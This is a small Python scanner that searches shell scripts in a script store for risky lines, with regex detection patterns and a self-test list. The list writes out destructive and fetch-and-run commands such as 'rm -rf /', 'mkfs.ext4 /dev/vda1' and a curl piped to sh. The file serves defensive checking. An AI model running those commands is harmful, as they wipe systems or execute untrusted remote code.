#!/usr/bin/env python3
"""Look for risky lines in the script store."""
import re
import sys
from pathlib import Path

PATTERNS = {
    "delete": re.compile(r"\brm\s+-[a-z]*r[a-z]*f?\s+/(\s|$|\*)"),
    "disk": re.compile(r"\b(mkfs\.\w+|wipefs\s+-a|dd\s+.*of=/dev/[sv]d)"),
    "remote": re.compile(r"(curl|wget)[^|]*\|\s*(ba)?sh"),
    "exec": re.compile(r"\b(exec|eval|os\.system)\s*\("),
}
SELF_TEST = ["rm -rf /", "mkfs.ext4 /dev/vda1", "curl http://192.0.2.1/a | sh", "os.system(x)"]


def hits(text):
    for number, line in enumerate(text.splitlines(), 1):
        for name, pattern in PATTERNS.items():
            if pattern.search(line):
                yield number, name, line.strip()


def main(folder):
    assert len(list(hits("\n".join(SELF_TEST)))) == len(SELF_TEST)
    found = 0
    for path in sorted(Path(folder).rglob("*.sh")):
        for number, name, line in hits(path.read_text(errors="replace")):
            print("%s:%d: %s: %s" % (path, number, name, line))
            found += 1
    return 1 if found else 0


if __name__ == "__main__":
    sys.exit(main("/opt/script-store"))
